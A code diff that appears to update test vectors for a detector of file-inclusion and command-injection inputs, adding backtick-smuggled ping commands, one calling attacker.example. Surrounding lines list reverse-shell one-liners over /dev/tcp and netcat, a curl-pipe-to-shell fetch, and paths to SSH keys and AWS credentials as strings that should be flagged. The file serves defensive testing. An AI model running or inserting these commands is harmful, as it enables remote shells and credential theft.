@@ -39,7 +39,7 @@ V = {
  "rp-lfi-006": ([".ssh/id_rsa", "/home/u/.aws/credentials", "/.bash_history"], ["ssh keys guide", "aws credentials how-to"]),
  "rp-lfi-007": (["c:\\windows\\system32\\drivers\\etc\\hosts", "WEB-INF/web.xml", "boot.ini"], ["windows 11 system requirements", "web info"]),
  "rp-rce-010": (["whoami", "uname -a", "cat /etc/passwd"], ["who am i", "uname"]),
- "rp-rce-011": (["`whoami`", "`cat /etc/passwd`", "`sleep 5`"], ["`go test ./...`", "`python -m venv .venv`"]),
+ "rp-rce-011": (["`whoami`", "`cat /etc/passwd`", "`sleep 5`", "lorem ipsum `ping 127.0.0.1`", "x`ping attacker.example`"], ["`go test ./...`", "`python -m venv .venv`", "run `ping 8.8.8.8` to check the network"]),
  "rp-rce-012": (["cat${IFS}/etc/passwd", "{cat,/etc/passwd}", "$(curl evil)"], ["${name}", "{a, b}"]),
  "rp-rce-013": (["/bin/sh -c id", "/usr/bin/wget http://x", "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242"], ["/usr/bin is a directory", "binary files"]),
  "rp-rce-014": (["nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "curl http://x/s.sh | sh"], ["nc state", "curl your hair"]),
